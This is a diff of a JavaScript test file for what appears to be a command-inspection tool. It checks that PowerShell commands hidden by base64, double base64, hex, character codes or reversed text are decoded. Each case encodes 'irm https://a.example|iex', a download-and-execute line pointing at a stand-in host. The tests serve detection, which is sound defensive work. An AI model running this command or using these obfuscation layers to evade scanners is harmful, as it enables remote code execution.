@@ -118,8 +118,13 @@ describe('what commands hide', () => {
     ['base64 for addresses', encode('irm https://a.example|iex').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
     ['base64 twice', encode(encode('irm https://a.example|iex'))],
     ['hexadecimal', Buffer.from('irm https://a.example|iex').toString('hex')],
-    ['codes in a list', [...'irm https://a.example|iex'].map((character) => character.charCodeAt(0)).join(', ')],
-    ['text written backwards', `[array]::Reverse('${[...'irm https://a.example|iex'].reverse().join('')}')`],
+    [
+      'codes in a list',
+      Array.from('irm https://a.example|iex')
+        .map((character) => character.charCodeAt(0))
+        .join(', '),
+    ],
+    ['text written backwards', `[array]::Reverse('${Array.from('irm https://a.example|iex').reverse().join('')}')`],
   ])('%s is decoded', (_name, written) => {
     expect(layersOf(`powershell ${written}`, 'windows').some((layer) => layer.includes('irm https://a.example|iex'))).toBe(true);
   });
